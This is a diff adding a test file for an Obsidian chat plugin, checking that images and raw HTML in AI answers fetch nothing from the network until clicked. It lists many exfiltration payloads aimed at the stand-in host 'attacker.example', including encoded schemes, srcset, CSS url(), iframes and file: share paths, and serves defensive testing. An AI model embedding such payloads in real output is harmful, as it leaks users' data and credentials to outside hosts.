@@ -1,0 +1,170 @@
+// @vitest-environment happy-dom
+// Images and raw HTML in answers load nothing from the network until the person clicks "load".
+import fc from "fast-check";
+import { afterEach, describe, expect, it } from "vitest";
+import { Component } from "obsidian";
+import { asObsidianApp, createTestApp, flush } from "../obsidian/harness";
+import { MessageList } from "../../src/ui/MessageList";
+import { renderUntrustedMarkdown } from "../../src/ui/safeMarkdown";
+import { ManualFrames, message } from "./fakes";
+
+afterEach(() => document.body.empty());
+
+const HOST = "attacker.example";
+
+/** Every way an answer can ask the renderer to fetch from attacker.example. */
+export const HOSTILE: Record<string, string> = {
+	"inline image": `![](https://${HOST}/?q=secret)`,
+	"uppercase scheme": `![x](HTTPS://${HOST.toUpperCase()}/x.png)`,
+	"protocol-relative": `![x](//${HOST}/pr.png)`,
+	"angle-bracket destination": `![x](<https://${HOST}/a b.png>)`,
+	"title and spaces": `![x](   https://${HOST}/t.png "title")`,
+	"reference-style": `![x][r]\n\n[r]: https://${HOST}/r.png`,
+	"collapsed reference": `![r][]\n\n[r]: https://${HOST}/c.png`,
+	"numeric entity in the scheme": `![x](&#104;ttps://${HOST}/e.png)`,
+	"named entity for the colon": `![x](https&colon;//${HOST}/n.png)`,
+	"backslash escapes": `![x](https\\://${HOST}/b.png)`,
+	"link-wrapped image": `[![x](https://${HOST}/l.png)](https://example.org)`,
+	"image in a list item": `- ![](https://${HOST}/li.png)`,
+	"image in a quote": `> ![](https://${HOST}/q.png)`,
+	"image in a table": `| a |\n| --- |\n| ![](https://${HOST}/td.png) |`,
+	"wiki embed of a URL": `![[https://${HOST}/w.png]]`,
+	"HTML img": `<img src="https://${HOST}/h.png">`,
+	"HTML img, uppercase, unquoted": `<IMG SRC=//${HOST}/u.png>`,
+	"HTML img with > in an attribute": `<img alt=">" src="https://${HOST}/gt.png">`,
+	"HTML img with srcset": `<img srcset="https://${HOST}/s.png 2x">`,
+	"HTML img with an entity": `<img src="&#x68;ttps://${HOST}/he.png">`,
+	"picture/source": `<picture><source srcset="https://${HOST}/p.png"><img alt="p"></picture>`,
+	"video poster": `<video poster="https://${HOST}/v.png"></video>`,
+	"audio": `<audio src="https://${HOST}/a.mp3"></audio>`,
+	"iframe": `<iframe src="https://${HOST}/f"></iframe>`,
+	"object": `<object data="https://${HOST}/o.svg"></object>`,
+	"embed": `<embed src="https://${HOST}/e.svg">`,
+	"input image": `<input type="image" src="https://${HOST}/i.png">`,
+	"svg image": `<svg><image href="https://${HOST}/svg.png"/></svg>`,
+	"stylesheet link": `<link rel="stylesheet" href="https://${HOST}/s.css">`,
+	"style element": `<style>p{background:url(https://${HOST}/st.png)}</style>`,
+	"CSS url() in a style attribute": `<div style="background:url(https://${HOST}/bg.png)">x</div>`,
+	"CSS image-set() in a style attribute": `<span style='background-image:image-set("https://${HOST}/is.png" 1x)'>x</span>`,
+	"table background": `<table background="https://${HOST}/t.png"><tr><td>x</td></tr></table>`,
+	"inline HTML in a sentence": `Look: <img src=https://${HOST}/s.png> here`,
+	"HTML block hiding a fence": "<div>\n```\n<img src=https://" + HOST + "/fence.png>\n```\n</div>",
+	"odd tag name": `<x\u0000 style="background:url(//${HOST}/nul.png)">`,
+};
+
+/** Attributes and style sheets in `root` that name attacker.example (links, titles and alt texts are fine). */
+function leaks(root: HTMLElement): string[] {
+	const found: string[] = [];
+	for (const el of Array.from(root.querySelectorAll("*"))) {
+		for (const attr of Array.from(el.attributes)) {
+			if (["title", "aria-label", "alt", "class"].includes(attr.name)) continue;
+			// A link loads nothing until it is followed.
+			if (el.tagName === "A" && ["href", "data-href"].includes(attr.name)) continue;
+			if (attr.value.toLowerCase().includes(HOST)) found.push(`<${el.tagName.toLowerCase()} ${attr.name}="${attr.value}">`);
+		}
+		if (el.tagName === "STYLE" && (el.textContent ?? "").includes(HOST)) found.push("<style>");
+	}
+	return found;
+}
+
+async function renderSafely(markdown: string, loadRemoteImages = false): Promise<HTMLElement> {
+	const app = asObsidianApp(await createTestApp());
+	const el = document.body.createDiv();
+	const component = new Component();
+	component.load();
+	await renderUntrustedMarkdown(app, markdown, el, "", component, loadRemoteImages);
+	return el;
+}
+
+async function answerList(loadRemoteImages: boolean) {
+	const app = await createTestApp();
+	const frames = new ManualFrames();
+	const list = new MessageList(document.body.createDiv(), { app: asObsidianApp(app), sourcePath: () => "", loadRemoteImages: () => loadRemoteImages, scheduler: frames.options });
+	list.load();
+	return { list, frames };
+}
+
+describe("remote images in answers", () => {
+	it("an answer with hostile images and HTML loads nothing from their host, saved or streaming", async () => {
+		const answer = Object.values(HOSTILE).join("\n\n");
+		const { list, frames } = await answerList(false);
+		list.upsert(message("assistant", answer));
+		await flush();
+		expect(leaks(list.scrollEl)).toEqual([]);
+		list.startStreaming();
+		list.appendToken(answer);
+		frames.frame();
+		await flush();
+		expect(leaks(list.scrollEl)).toEqual([]);
+		expect(list.scrollEl.textContent).toContain(`Image from ${HOST} — load`);
+	});
+
+	for (const [name, markdown] of Object.entries(HOSTILE)) {
+		it(`loads nothing from the host: ${name}`, async () => {
+			expect(leaks(await renderSafely(markdown))).toEqual([]);
+		});
+	}
+
+	it("shows a placeholder naming the host, which loads the image when clicked (and does not follow a link)", async () => {
+		const el = await renderSafely(`Before [![cat](https://${HOST}/cat.png)](https://example.org) after`);
+		const button = el.querySelector<HTMLButtonElement>("button.discover-chat-remote-image");
+		expect(button?.textContent).toBe(`Image from ${HOST} — load`);
+		expect(el.querySelector("img")).toBeNull();
+		const click = new MouseEvent("click", { bubbles: true, cancelable: true });
+		button?.dispatchEvent(click);
+		expect(click.defaultPrevented).toBe(true);
+		expect(el.querySelector("img")?.getAttribute("src")).toBe(`https://${HOST}/cat.png`);
+		expect(el.querySelector("img")?.getAttribute("alt")).toBe("cat");
+		expect(el.querySelector("button")).toBeNull();
+	});
+
+	it("protocol-relative and backslashed addresses load over https when clicked; file: is never offered", async () => {
+		// A file: URL (or a Windows share reached as one) would send the person's credentials to the host.
+		const el = await renderSafely(String.raw`![](//${HOST}/p.png) <img src="\\${HOST}\share\x.png"> ![](file://${HOST}/x.png)`);
+		const buttons = Array.from(el.querySelectorAll("button.discover-chat-remote-image"));
+		expect(buttons.map((b) => b.textContent)).toEqual([`Image from ${HOST} — load`, `Image from ${HOST} — load`]);
+		for (const b of buttons) b.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
+		expect(Array.from(el.querySelectorAll("img")).map((i) => i.getAttribute("src"))).toEqual([`https://${HOST}/p.png`, `https://${HOST}/share/x.png`]);
+		expect(Array.from(el.querySelectorAll("span.discover-chat-remote-image")).map((s) => s.textContent)).toEqual([`Image from ${HOST}`]);
+	});
+
+	it("vault images, wiki embeds, app:// and data: images still show", async () => {
+		const data = "data:image/png;base64,iVBORw0KGgo=";
+		const el = await renderSafely(`![a](Pics/a.png) ![b](<Pics/my b.png>) ![[c.png]] ![d](${data}) ![e](app://local/vault/e.png) <img src="${data}" alt="f">`);
+		expect(Array.from(el.querySelectorAll("span.internal-embed")).map((s) => s.getAttribute("src"))).toEqual(["Pics/a.png", "Pics/my b.png", "c.png"]);
+		expect(Array.from(el.querySelectorAll("img")).map((i) => i.getAttribute("src"))).toEqual([data, "app://local/vault/e.png", data]);
+		expect(el.querySelector(".discover-chat-remote-image")).toBeNull();
+	});
+
+	it("code shows exactly what the model wrote, and raw HTML outside code shows as text", async () => {
+		const code = `<img src="https://${HOST}/c.png"> ![x](https://${HOST}/md.png) \ue000 <iframe src=x>`;
+		const el = await renderSafely(`Inline \`${code}\`\n\n\`\`\`html\n${code}\n\`\`\`\n\n- nested:\n  \`\`\`\n  ${code}\n  \`\`\`\n\n<span class="x">text</span> a<b and c>d <br> <sub>2</sub> <https://example.org/x?a=b>`);
+		const codes = Array.from(el.querySelectorAll("code")).map((c) => c.textContent?.trim());
+		expect(codes).toEqual([code, code, code]);
+		// An opening tag is shown as text; a bare closing tag stays a tag (and shows nothing).
+		expect(el.textContent).toContain('<span class="x">text a<b and c>d');
+		expect(el.querySelector("sub")).not.toBeNull();
+		expect(el.querySelector("br")).not.toBeNull();
+		expect(el.querySelector('a.external-link[href="https://example.org/x?a=b"]')?.textContent).toBe("https://example.org/x?a=b");
+		expect(leaks(el)).toEqual([]);
+	});
+
+	it("with “Load images from the web in answers” on, remote images load as before", async () => {
+		const { list } = await answerList(true);
+		list.upsert(message("assistant", `![](https://${HOST}/on.png)`));
+		await flush();
+		expect(list.scrollEl.querySelector("img")?.getAttribute("src")).toBe(`https://${HOST}/on.png`);
+	});
+
+	it("property: no mix of hostile fragments and Markdown syntax loads anything from the host", async () => {
+		const fragments = [...Object.values(HOSTILE), "![", "](", ")", "[", "]", "<", ">", "`", "```", "\n", "\n\n", "> ", "- ", "|", '"', "'", "\\", "&", "&#", "(", "</", "<img ", " src=", `//${HOST}/p.png`, `https://${HOST}/x`, "[r]: ", "\ue000", "\ue001", "text"];
+		await fc.assert(
+			fc.asyncProperty(fc.array(fc.constantFrom(...fragments), { maxLength: 12 }), async (parts) => {
+				const el = await renderSafely(parts.join(""));
+				expect(leaks(el)).toEqual([]);
+				el.remove();
+			}),
+			{ numRuns: 300 },
+		);
+	});
+});
